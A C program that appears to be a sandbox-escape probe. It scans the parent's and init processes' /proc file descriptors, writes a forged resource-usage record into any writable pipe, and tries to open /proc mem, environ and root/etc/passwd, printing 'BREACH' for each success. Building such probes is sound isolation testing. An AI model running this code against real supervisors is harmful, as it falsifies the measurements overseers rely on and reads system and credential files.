// outcomes: ok error killed
// The parent's descriptors: who can open them again writes what the parent is to believe.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
struct note { double clock, cpu; int64_t memory, faults, switches, status; };
int main(void) {
  char path[64], target[256];
  const int parents[] = {getppid(), 1, 2, 3};
  for (int i = 0; i < 4; i++) {
    for (int number = 0; number < 1100; number++) {
      snprintf(path, sizeof path, "/proc/%d/fd/%d", parents[i], number);
      for (int flags = O_RDONLY; flags <= O_RDWR; flags++) {
        int opened = open(path, flags | O_NONBLOCK);
        if (opened < 0) continue;
        struct stat found;
        fstat(opened, &found);
        printf("BREACH %s %o\n", path, found.st_mode);
        if (S_ISFIFO(found.st_mode) && flags != O_RDONLY) {
          struct timespec now;
          clock_gettime(CLOCK_MONOTONIC, &now);
          struct note forged = {now.tv_sec + now.tv_nsec / 1e9, 0.0, 1, 1, 0, 0};
          if (write(opened, &forged, sizeof forged) > 0) puts("BREACH forged note");
        }
        close(opened);
      }
    }
    const char *names[] = {"mem", "maps", "environ", "stat", "cwd/.", "root/etc/passwd", "exe"};
    for (int n = 0; n < 7; n++) {
      snprintf(path, sizeof path, "/proc/%d/%s", parents[i], names[n]);
      if (open(path, O_RDWR) >= 0) printf("BREACH %s\n", path);
    }
  }
  clock_t end = clock() + CLOCKS_PER_SEC / 2;
  while (clock() < end) {}
  puts("END");
  return 0;
}
